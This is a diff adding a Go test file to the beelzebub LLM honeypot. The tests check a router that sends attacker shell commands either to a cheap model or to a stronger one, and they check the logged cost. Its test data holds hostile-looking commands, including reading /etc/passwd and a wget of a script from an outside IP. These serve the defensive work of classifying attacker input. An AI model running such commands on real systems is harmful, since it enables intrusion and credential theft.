@@ -0,0 +1,75 @@
+package plugins
+
+import (
+	"net/http"
+	"testing"
+
+	"github.com/go-resty/resty/v2"
+	"github.com/jarcoal/httpmock"
+	"github.com/mariocandela/beelzebub/v3/tracer"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestHeuristicRouter(t *testing.T) {
+	//Given
+	router := HeuristicRouter(Route{Provider: Ollama, Model: "llama3"}, Route{Provider: OpenAI, Model: "gpt-4o"})
+
+	for command, model := range map[string]string{
+		"ls -la":                        "llama3",
+		"whoami":                        "llama3",
+		"cat /etc/passwd | grep root":   "gpt-4o",
+		"sudo python3 -c 'print(1)'":    "gpt-4o",
+		"wget http://198.51.100.4/x.sh": "gpt-4o",
+		"echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa": "gpt-4o",
+	} {
+		//When
+		_, routed := router(command)
+
+		//Then
+		assert.Equal(t, model, routed, command)
+	}
+}
+
+func TestExecuteModelWithRouter(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova.txt"}}`), nil
+		},
+	)
+	httpmock.RegisterResponder("POST", openAIEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"HTTP/1.1 200 OK"}}],"usage":{"prompt_tokens":1000000,"completion_tokens":0}}`), nil
+		},
+	)
+
+	sink := &mockInteractionSink{}
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:  tracer.SSH,
+		Model:     "llama3",
+		Provider:  Ollama,
+		OpenAIKey: "sdjdnklfjndslkjanfk",
+		Router:    HeuristicRouter(Route{Provider: Ollama}, Route{Provider: OpenAI, Model: "gpt-4o"}),
+		Sink:      sink,
+	})
+	honeypot.client = client
+
+	//When
+	cheapAnswer, err := honeypot.ExecuteModel("ls")
+	assert.Nil(t, err)
+	strongAnswer, err := honeypot.ExecuteModel("curl -I http://localhost")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", cheapAnswer)
+	assert.Equal(t, "HTTP/1.1 200 OK", strongAnswer)
+	assert.Equal(t, Ollama, honeypot.Provider)
+	assert.Equal(t, Route{Provider: Ollama, Model: "llama3"}, Route{Provider: sink.interactions[0].Provider, Model: sink.interactions[0].Model})
+	assert.Equal(t, Route{Provider: OpenAI, Model: "gpt-4o"}, Route{Provider: sink.interactions[1].Provider, Model: sink.interactions[1].Model})
+	assert.InDelta(t, 2.5, sink.interactions[1].CostUSD, 1e-9)
+	assert.Len(t, honeypot.Histories, 2)
+}